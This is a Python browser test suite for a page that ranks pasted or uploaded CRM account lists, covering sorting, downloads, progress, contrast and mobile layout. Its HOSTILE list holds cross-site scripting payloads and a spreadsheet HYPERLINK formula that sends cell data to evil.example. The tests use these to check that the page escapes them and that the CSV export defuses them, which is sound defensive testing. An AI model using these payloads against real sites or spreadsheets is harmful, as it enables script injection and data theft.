"""The prioritise page in a real browser: a list of accounts ranked in the worker.

Expected rankings, problems and worksheets come from calculators.ranking
under CPython for the same text, so these tests check the page shows what the package
computes, not figures copied into the test.
"""

from __future__ import annotations

import random
import re
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from calculators.account_file import PROGRESS_EVERY
from calculators.inputs import plain
from calculators.loader import load_data_dir
from calculators.ranking import rank, run, to_csv
from calculators.ranking_session import PAGE_ROWS, Session, columns, first_order
from conftest import DATA, ROOT

from .conftest import runtime_fetches

pytestmark = pytest.mark.browser

PAGE = "playbook/prioritise/"
READY = "form[data-batch][data-calculator-state=ready]"
PLAYBOOK = load_data_dir(DATA, "internal")
SAMPLE = (ROOT / "docs" / "playbook" / "sample-accounts.csv").read_text(encoding="utf-8")
HEAD = "Name,Domain,Industry,Use Case Fit,Commercial Fit,Technical Fit,Strategic Value,Annual Revenue,Annual Budget,Disqualifiers"
HOSTILE = ['<img src=x onerror=alert(1)>', '=HYPERLINK("http://evil.example/?"&A1,"Click")',
           '<script>window.__pwned=1</script>', '"><svg onload=alert(2)>']

TABLE_ROWS = """() => [...document.querySelectorAll('[data-batch-table] tbody tr')]
    .map((tr) => [tr.cells[1].firstChild.textContent, tr.cells[2].textContent])"""


def accounts(count: int, seed: int = 6) -> str:
    """A CRM-like export: scores in halves (with ties), sizes, industries and a few disqualifiers."""
    rnd = random.Random(seed)
    half = lambda: plain(Decimal(rnd.randrange(8, 21)) / 2)  # noqa: E731
    industries = [i.name for i in PLAYBOOK.use_cases.industries] + ["Logistics", ""]
    flags = ["", "", "", "", "on_premise_only", "exotic_architectures|real_time_training"]
    lines = [HEAD]
    for n in range(count):
        lines.append(f"Account {n:05},acc{n}.example,{rnd.choice(industries)},{half()},{half()},{half()},{half()},"
                     f"{rnd.randrange(1, 3000) * 10**6},{rnd.randrange(0, 800) * 1000},{rnd.choice(flags)}")
    return "\r\n".join(lines) + "\r\n"


def expected_rows(text: str) -> list[list[str]]:
    """(name, total) of every ranked row, in order, as CPython's ranking.run gives them."""
    return rows_of(run(text, PLAYBOOK))


def rows_of(ranked: dict) -> list[list[str]]:
    return [[a["name"], a["display"]["score"]] for a in ranked["accounts"]]


def summary_of(text: str) -> str:
    return run(text, PLAYBOOK)["summary"]


def open_ready(visit, url: str):
    seen = visit(url + PAGE)
    seen.page.wait_for_selector(READY, timeout=60_000)
    return seen


def rank_pasted(page, text: str) -> None:
    page.fill("#batch-csv", text)
    page.click("[data-batch-run]")
    expect(page.locator("[data-batch-summary]")).to_have_text(summary_of(text), timeout=60_000)


def test_prerendered_sample_table_shows_with_javascript_off(visit, internal_url):
    seen = visit(internal_url + PAGE, javascript=False)
    assert seen.page.evaluate(TABLE_ROWS) == expected_rows(SAMPLE)
    expect(seen.page.locator("[data-batch-summary]")).to_have_text(summary_of(SAMPLE))
    assert not [u for u in seen.requests if "/assets/pyodide/" in u or "/assets/calculators/" in u]


def test_pasted_csv_is_ranked_as_cpython_ranks_it_and_stays_in_the_browser(visit, internal_url):
    origin = "{0.scheme}://{0.netloc}/".format(urlsplit(internal_url))
    seen = open_ready(visit, internal_url)
    page = seen.page
    sent = []
    page.context.on("request", lambda r: sent.append(f"{r.method} {r.url} {r.post_data or ''}"))
    text = accounts(PAGE_ROWS + 50)
    rank_pasted(page, text)
    want = expected_rows(text)
    assert page.evaluate(TABLE_ROWS) == want[:PAGE_ROWS]
    expect(page.locator("[data-batch-showing]")).to_have_text(
        f"Showing {PAGE_ROWS} of {len(want)} ranked accounts; the download holds every row.")
    page.click("[data-batch-more]")
    expect(page.locator("[data-batch-table] tbody tr")).to_have_count(len(want))
    assert page.evaluate(TABLE_ROWS) == want
    expect(page.locator("[data-batch-more]")).to_be_hidden()
    assert [r for r in sent if "Account 00001" in r or not r.startswith("GET ")] == [], "the list left the page"
    assert [u for u in seen.requests if not u.removeprefix("blob:").startswith(origin)] == []  # blob: the page's own


def test_a_chosen_file_is_read_in_the_page_and_ranked(visit, internal_url):
    seen = open_ready(visit, internal_url)
    page = seen.page
    # A CRM export as Excel writes it: BOM, semicolons, CRLF, a quoted cell, blank lines.
    text = "\ufeff" + accounts(40, seed=9).replace(",", ";").replace("\r\n", "\r\n\r\n", 3)
    text = text.replace("Account 00003", '"Account 00003; the holding"')
    page.set_input_files("#batch-file", files=[{"name": "export.csv", "mimeType": "text/csv",
                                                "buffer": text.encode("utf-8")}])
    expect(page.locator("[data-batch-summary]")).to_have_text(summary_of(text), timeout=60_000)
    assert page.evaluate(TABLE_ROWS) == expected_rows(text)
    assert "Account 00003; the holding" in [name for name, _ in page.evaluate(TABLE_ROWS)]


def test_rows_not_read_as_written_are_listed_under_the_table_while_every_account_is_ranked(visit, internal_url):
    seen = open_ready(visit, internal_url)
    page = seen.page
    text = (f"{HEAD}\nGood One,,Gaming,8,8,8,8,,,\nBad Score,,Gaming,11,8,8,8,,,\n"
            f"Bad Money,,Gaming,5,5,5,5,lots,,\n,,Gaming,6,6,6,6,,,\nGood Three,,,7,7,7,7,,,\n")
    rank_pasted(page, text)
    problems = page.locator("[data-batch-problems]")
    expect(problems).to_be_visible()
    shown = problems.locator("li").evaluate_all("items => items.map(i => i.textContent)")
    assert shown == [p.words() for p in rank(text, PLAYBOOK).opened.tally.problems.listed()]
    assert any("rejected: nothing identifies the account" in line and "(5)" in line for line in shown)
    table_top = page.locator("[data-batch-table]").bounding_box()["y"]
    assert problems.bounding_box()["y"] > table_top  # under the table
    assert page.evaluate(TABLE_ROWS) == expected_rows(text)
    assert {name for name, _ in page.evaluate(TABLE_ROWS)} == {"Good One", "Bad Score", "Bad Money", "Good Three"}
    # A file no row of which can be read: the message says what the CSV lacks.
    rank_bad = "score;total\n5;7\n"
    page.fill("#batch-csv", rank_bad)
    page.click("[data-batch-run]")
    message = run(rank_bad, PLAYBOOK)["errors"][0]["message"]
    expect(page.locator("[data-batch-file-errors]")).to_contain_text(message)
    expect(page.locator("[data-batch-errors]")).to_have_attribute("role", "alert")
    # The list ranked before stays, in the table and in the worker.
    page.click('button[data-sort="total"]')
    expect(page.locator('[data-batch-table] th:has(button[data-sort="total"])')).to_have_attribute(
        "aria-sort", "descending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)][:2] == ["Good One", "Good Three"]


def test_hostile_account_names_are_shown_as_text(visit, internal_url):
    seen = open_ready(visit, internal_url)
    page = seen.page
    text = HEAD + "\n" + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",x.example,,9,9,9,{9 - i},,,\n'
                                 for i, name in enumerate(HOSTILE))
    rank_pasted(page, text)
    assert [name for name, _ in page.evaluate(TABLE_ROWS)] == [name for name, _ in expected_rows(text)]
    assert sorted(name for name, _ in page.evaluate(TABLE_ROWS)) == sorted(HOSTILE)
    assert page.locator("article img, article script, article svg[onload]").count() == 0
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.__pwned") is None  # and the visit fixture checks no dialog opened


def test_sorting_by_a_header_with_mouse_and_keyboard(visit, internal_url):
    seen = open_ready(visit, internal_url)
    page = seen.page
    text = accounts(60, seed=3)
    rank_pasted(page, text)
    session = Session(PLAYBOOK)
    session.handle({"csv": text})

    def names_by(sort, descending):
        return [row["cells"][1]["text"] for row in session.handle({"sort": sort, "descending": descending})["rows"]]

    def header(sort):
        return page.locator(f'[data-batch-table] th:has(button[data-sort="{sort}"])')

    page.click('button[data-sort="total"]')  # numbers sort highest first on the first click
    expect(header("total")).to_have_attribute("aria-sort", "descending")
    expect(header("rank")).not_to_have_attribute("aria-sort", re.compile("."))
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("total", True)
    page.click('button[data-sort="total"]')
    expect(header("total")).to_have_attribute("aria-sort", "ascending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("total", False)

    page.locator('button[data-sort="name"]').focus()
    page.keyboard.press("Enter")
    expect(header("name")).to_have_attribute("aria-sort", "ascending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("name", False)
    page.keyboard.press("Space")
    expect(header("name")).to_have_attribute("aria-sort", "descending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("name", True)
    expect(header("total")).not_to_have_attribute("aria-sort", re.compile("."))
    tier = "tier"
    page.locator(f'button[data-sort="{tier}"]').focus()
    page.keyboard.press("Enter")
    expect(header(tier)).to_have_attribute("aria-sort", "ascending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by(tier, False)
    page.click('button[data-sort="industry"]')  # words sort A to Z first
    expect(header("industry")).to_have_attribute("aria-sort", "ascending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by("industry", False)
    dimension = PLAYBOOK.scoring.dimensions[1].id  # one dimension's score, highest first
    page.locator(f'button[data-sort="{dimension}"]').focus()
    page.keyboard.press("Enter")
    expect(header(dimension)).to_have_attribute("aria-sort", "descending")
    assert [n for n, _ in page.evaluate(TABLE_ROWS)] == names_by(dimension, True)
    expect(header("industry")).not_to_have_attribute("aria-sort", re.compile("."))


def test_download_is_the_worksheet_of_to_csv(visit, internal_url, tmp_path):
    seen = open_ready(visit, internal_url)
    page = seen.page
    # The prerendered sample downloads as it is shown, without ranking anything first.
    with page.expect_download() as info:
        page.click("[data-batch-download]")
    assert info.value.suggested_filename == "ranked-accounts.csv"
    assert open(info.value.path(), encoding="utf-8", newline="").read() == to_csv(rank(SAMPLE, PLAYBOOK))
    text = HEAD + "\n" + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",,,7,7,7,7,,,\n' for name in HOSTILE)
    rank_pasted(page, text)
    page.click('button[data-sort="name"]')  # the CSV keeps the ranking, whatever the table's order
    with page.expect_download() as info:
        page.click("[data-batch-download]")
    downloaded = open(info.value.path(), encoding="utf-8", newline="").read()
    assert downloaded == to_csv(rank(text, PLAYBOOK))
    assert "'=HYPERLINK(" in downloaded  # a spreadsheet shows it, never runs it


PROBES = """() => {
  const box = document.querySelector("[data-batch-progress]");
  const bar = box.querySelector("progress");
  window.__progress = [];
  new MutationObserver(() => window.__progress.push([box.hidden, bar.value, bar.max]))
    .observe(box, { attributes: true, subtree: true, childList: true, characterData: true });
  window.__frames = [];
  const tick = (time) => { window.__frames.push(time); if (!window.__stop) requestAnimationFrame(tick); };
  requestAnimationFrame(tick);
  document.querySelector("form[data-batch]").addEventListener("batch:result", (event) => {
    window.__stop = true;
    window.__run = [performance.now() - event.detail.shownMs, performance.now()];
  }, { once: true });
}"""


def test_a_large_list_shows_progress_and_the_page_keeps_drawing(visit, internal_url):
    seen = open_ready(visit, internal_url)
    page = seen.page
    text = accounts(3 * PROGRESS_EVERY - 3_000)  # three parts: progress between them
    want = run(text, PLAYBOOK)
    page.evaluate(PROBES)
    page.set_input_files("#batch-file", files=[{"name": "big.csv", "mimeType": "text/csv",
                                                "buffer": text.encode("utf-8")}])
    expect(page.locator("[data-batch-summary]")).to_have_text(want["summary"], timeout=120_000)
    progress = page.evaluate("() => window.__progress")
    assert any(not hidden and 0 < value < top for hidden, value, top in progress), progress
    expect(page.locator("[data-batch-progress]")).to_be_hidden()
    start, end = page.evaluate("() => window.__run")
    frames = [t for t in page.evaluate("() => window.__frames") if start <= t <= end]
    gaps = [b - a for a, b in zip(frames, frames[1:])]
    # Scoring 12,000 rows takes seconds; the page draws frames all along: a frozen page would show
    # one gap as long as the run. No gap is a quarter of it, however busy the machine (how long
    # frames take is the benchmark's to measure, not a test's).
    assert len(frames) >= 10 and max(gaps) < (end - start) / 4, (len(frames), max(gaps, default=None), end - start)
    assert page.evaluate(TABLE_ROWS) == rows_of(want)[:PAGE_ROWS]


def test_works_after_instant_navigation_from_another_calculator(visit, internal_url):
    seen = visit(internal_url + "playbook/account-scoring/")
    page = seen.page
    seen.wait_ready()
    page.evaluate("() => { window.__sameDocument = true; }")
    page.locator('a.md-nav__link[href$="prioritise/"]').first.click()
    page.wait_for_selector(READY, timeout=60_000)
    assert page.evaluate("() => window.__sameDocument") is True, "navigation reloaded the page"
    text = accounts(30, seed=11)
    rank_pasted(page, text)
    assert page.evaluate(TABLE_ROWS) == expected_rows(text)
    page.click('button[data-sort="total"]')
    expect(page.locator('[data-batch-table] th:has(button[data-sort="total"])')).to_have_attribute(
        "aria-sort", "descending")
    assert page.evaluate("() => window.__calculatorWorkerStarts") == 1
    assert runtime_fetches(seen.requests) == 1  # one start: the runtime is not fetched again


def _luminance(colour: list[float]) -> float:
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in colour]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def _rgba(text: str) -> list[float]:
    parts = [float(p) for p in re.findall(r"[\d.]+", text)]
    return [c / 255 for c in parts[:3]] + [parts[3] if len(parts) > 3 else 1.0]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_band_colours_are_readable_in_both_palettes(scheme, visit, internal_url):
    seen = visit(internal_url + PAGE, color_scheme=scheme)
    # Material picks the palette with JavaScript, from the reader's preference.
    expect(seen.page.locator("body")).to_have_attribute("data-md-color-scheme", "slate" if scheme == "dark" else "default")
    cells = seen.page.evaluate("""() => [...document.querySelectorAll("[data-batch-table] .batch__band")]
        .map((td) => [td.className, getComputedStyle(td).color, getComputedStyle(td).backgroundColor])""")
    bands = {b.id for b in PLAYBOOK.scoring.bands}
    assert {re.search(r"batch__band--(\S+)", c)[1] for c, _, _ in cells} == bands  # the sample has every band
    backgrounds = set()
    for name, fore, back in cells:
        *fg, alpha = _rgba(fore)
        bg = _rgba(back)[:3]
        backgrounds.add(tuple(bg))
        shown = [alpha * f + (1 - alpha) * b for f, b in zip(fg, bg)]  # the text's colour over the tint
        light, dark = sorted((_luminance(shown), _luminance(bg)), reverse=True)
        assert (light + 0.05) / (dark + 0.05) >= 4.5, f"{scheme}: {name}"
    assert len(backgrounds) == len(bands), "each band has its own colour"


PHONE, LAPTOP = {"width": 390, "height": 844}, {"width": 1366, "height": 900}
BATCH_TABLE = "[data-batch-table] table"

IN_VIEW = """([table, column]) => {
    const cell = document.querySelector(table).tBodies[0].rows[0].cells[column];
    const box = cell.getBoundingClientRect();
    const wrap = cell.closest('.md-typeset__scrollwrap, .alp-cards');  // Material wraps tables once shown
    return {text: cell.firstChild ? cell.firstChild.textContent : '', left: box.left, right: box.right,
            width: box.width, fits: wrap.scrollWidth <= wrap.clientWidth + 1,
            scrollable: wrap.tabIndex === 0 && wrap.getAttribute('role') === 'region',
            page: document.documentElement.scrollWidth};
}"""


COLUMNS = columns(PLAYBOOK.scoring.dimensions)


def column_of(key: str) -> int:
    return [key_ for key_, _ in COLUMNS].index(key)


def assert_in_view(page, table: str, column: int, want: str) -> None:
    """The first row's cell of that column is on screen, whole, with nothing scrolled sideways."""
    seen = page.evaluate(IN_VIEW, [table, column])
    assert seen["text"] == want, seen
    assert seen["width"] > 0 and seen["left"] >= 0 and seen["right"] <= PHONE["width"], seen
    assert seen["fits"] or seen["scrollable"], seen  # wider than the page: a region the keyboard scrolls
    assert seen["page"] <= PHONE["width"], seen


def test_on_a_phone_the_first_accounts_action_is_in_view_and_sorting_works_by_touch_and_keyboard(
        visit, internal_url):
    seen = visit(internal_url + PAGE, viewport=PHONE, has_touch=True)
    page = seen.page
    session = Session(PLAYBOOK)
    first = lambda answer: {c: answer["rows"][0]["cells"][column_of(c)]["text"]  # noqa: E731
                            for c in ("name", "total", "action")}
    want = first(session.handle({"csv": SAMPLE}))
    for key in ("name", "total", "action"):  # as prerendered, before any script ranks anything
        assert_in_view(page, BATCH_TABLE, column_of(key), want[key])
    page.wait_for_selector(READY, timeout=60_000)
    text = accounts(40, seed=5)
    rank_pasted(page, text)
    want = first(session.handle({"csv": text}))
    for key in ("name", "total", "action"):  # as the page's script draws the rows
        assert_in_view(page, BATCH_TABLE, column_of(key), want[key])
    # Sorting stays at hand: a tap, a click and the keyboard, on buttons at least 24 px square.
    sizes = page.locator(f"{BATCH_TABLE} button[data-sort]").evaluate_all(
        "buttons => buttons.map(b => [b.getBoundingClientRect().width, b.getBoundingClientRect().height])")
    assert len(sizes) == sum(1 for key, _ in COLUMNS if first_order(key, PLAYBOOK.scoring.dimensions)), sizes
    assert all(w >= 24 and h >= 24 for w, h in sizes), sizes
    total = f'{BATCH_TABLE} th:has(button[data-sort="total"])'
    page.tap('button[data-sort="total"]')
    expect(page.locator(total)).to_have_attribute("aria-sort", "descending")
    want = first(session.handle({"sort": "total", "descending": True}))
    expect(page.locator(f"{BATCH_TABLE} tbody tr").first.locator("th")).to_contain_text(want["name"])
    assert_in_view(page, BATCH_TABLE, column_of("action"), want["action"])
    page.click('button[data-sort="total"]')
    expect(page.locator(total)).to_have_attribute("aria-sort", "ascending")
    page.locator('button[data-sort="name"]').focus()
    page.keyboard.press("Enter")
    name = f'{BATCH_TABLE} th:has(button[data-sort="name"])'
    expect(page.locator(name)).to_have_attribute("aria-sort", "ascending")
    want = first(session.handle({"sort": "name", "descending": False}))
    expect(page.locator(f"{BATCH_TABLE} tbody tr").first.locator("th")).to_contain_text(want["name"])
    assert_in_view(page, BATCH_TABLE, column_of("action"), want["action"])


def test_on_a_phone_a_crm_exports_next_action_and_its_score_form_are_in_view(visit, internal_url):
    seen = visit(internal_url + PAGE, viewport=PHONE)
    page = seen.page
    page.wait_for_selector(READY, timeout=60_000)
    sample = (ROOT / "docs" / "playbook" / "sample-crm-export.csv").read_text(encoding="utf-8")
    rank_pasted(page, sample)
    top = run(sample, PLAYBOOK)["accounts"][0]
    assert_in_view(page, BATCH_TABLE, column_of("name"), top["name"])
    assert_in_view(page, BATCH_TABLE, column_of("action"), top["display"]["action"])
    opener = page.locator(f"{BATCH_TABLE} tbody tr").first.locator("details.batch__scoring > summary")
    box = opener.bounding_box()
    assert box and box["width"] >= 24 and box["height"] >= 24, box


def test_on_a_laptop_the_ranked_table_keeps_its_columns(visit, internal_url):
    seen = visit(internal_url + PAGE, viewport=LAPTOP)
    shape = seen.page.evaluate("""(table) => {
        const t = document.querySelector(table), row = t.tBodies[0].rows[0];
        return {display: getComputedStyle(row).display, head: t.tHead.getBoundingClientRect().height,
                tops: [...row.cells].map(c => Math.round(c.getBoundingClientRect().top)),
                labels: [...row.cells].map(c => getComputedStyle(c, '::before').content)};
    }""", BATCH_TABLE)
    assert shape["display"] == "table-row" and shape["head"] > 0, shape
    assert len(set(shape["tops"])) == 1, shape  # one line per account, a column per field
    assert set(shape["labels"]) <= {"none", "normal"}, shape
    # Wider than the column, it is a region the keyboard scrolls (tables.js), as before.
    seen.page.wait_for_function("""() => {
        const wrap = document.querySelector('[data-batch-table] .md-typeset__scrollwrap');
        return wrap && (wrap.scrollWidth <= wrap.clientWidth + 1
                        || (wrap.tabIndex === 0 && wrap.getAttribute('role') === 'region')); }""")


def test_on_a_narrow_laptop_the_rank_and_account_stay_in_view_while_the_table_scrolls(visit, internal_url):
    seen = visit(internal_url + PAGE, viewport={"width": 900, "height": 900})
    seen.page.wait_for_selector("[data-batch-table] .md-typeset__scrollwrap")
    moved = seen.page.evaluate("""(table) => {
        const wrap = document.querySelector('[data-batch-table] .md-typeset__scrollwrap');
        const row = document.querySelector(table).tBodies[0].rows[0];
        row.scrollIntoView({block: 'center'});
        const onTop = (cell) => {
            const box = cell.getBoundingClientRect();
            const found = document.elementFromPoint(box.left + 5, box.top + 5);
            return found ? found.closest('th, td') === cell : JSON.stringify(box.toJSON());
        };
        const lefts = () => [...row.cells].slice(0, 3).map(c => c.getBoundingClientRect().left);
        const before = lefts();
        wrap.scrollLeft = 300;
        return {before, after: lefts(), scrolled: wrap.scrollLeft,
                covers: onTop(row.cells[1])};
    }""", BATCH_TABLE)
    assert moved["scrolled"] > 0, moved  # wider than the column at this width
    assert moved["after"][:2] == moved["before"][:2], moved  # rank and account stay put
    assert moved["after"][2] < moved["before"][2], moved  # the rest scrolls
    assert moved["covers"] is True, moved  # the account is drawn over the columns scrolling under it
